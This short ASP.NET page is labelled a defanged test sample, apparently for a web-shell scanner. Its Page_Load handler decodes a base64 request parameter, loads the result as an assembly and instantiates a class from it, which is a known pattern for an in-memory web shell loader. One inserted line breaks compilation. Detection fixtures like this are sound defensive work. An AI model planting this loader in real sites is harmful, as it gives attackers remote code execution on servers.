<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	string k = "p";
	byte[] b = Convert.FromBase64String(Request[k]);
	System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this);
}
</script>
